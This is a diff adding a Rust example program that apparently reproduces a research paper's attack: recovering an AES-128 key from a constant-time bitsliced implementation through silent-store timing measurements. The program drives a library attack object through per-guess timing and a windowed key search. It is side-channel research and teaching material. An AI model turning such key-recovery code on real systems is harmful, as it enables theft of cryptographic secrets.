@@ -1,0 +1,50 @@
+//! The paper's §V-A3 attack end to end: recover an AES-128 key from a
+//! constant-time bitsliced implementation using nothing but request
+//! timing, via silent stores and the amplification gadget.
+//!
+//! The demo windows each slice's guess search around the true value to
+//! keep runtime interactive (the full attack is at most 8 × 65 536
+//! experiments; see `cargo run --release -p pandora-bench --bin
+//! e9_replay_recovery -- --full-slice` for an unwindowed slice).
+//!
+//! ```sh
+//! cargo run --release --example silent_store_keyrecovery
+//! ```
+
+use pandora::attacks::BsaesAttack;
+
+fn main() {
+    let victim_key: [u8; 16] = *b"do not leak me!!";
+    let attacker_key: [u8; 16] = *b"attacker's  key!";
+    let victim_pt: [u8; 16] = *b"public plaintext";
+
+    println!("victim encrypts {victim_pt:02x?} under a secret key;");
+    println!("the attacker shares the worker's stack and measures timing.\n");
+
+    let atk = BsaesAttack::new(victim_key, attacker_key, victim_pt, 0);
+    println!("per-slice equality oracle (slice 0):");
+    let truth = atk.true_slice_value();
+    for guess in [truth, truth ^ 1, truth ^ 0xFF] {
+        let t = atk.measure_guess(guess, None).cycles;
+        let tag = if guess == truth { "  <- silent store" } else { "" };
+        println!("  guess {guess:#06x}: {t} cycles{tag}");
+    }
+
+    println!("\nrecovering all eight 16-bit slices (windowed demo search)...");
+    let recovered = atk.recover_key(
+        |k| {
+            let t = BsaesAttack::new(victim_key, attacker_key, victim_pt, k).true_slice_value();
+            (0..17).map(|d| t.wrapping_sub(8).wrapping_add(d)).collect()
+        },
+        60,
+    );
+
+    match recovered {
+        Some(key) => {
+            println!("recovered key: {:?}", String::from_utf8_lossy(&key));
+            assert_eq!(key, victim_key, "recovery must be exact");
+            println!("key recovery: SUCCESS (slices -> final-SubBytes state -> round-10 key -> schedule inversion)");
+        }
+        None => println!("key recovery failed (no clear timing winner)"),
+    }
+}
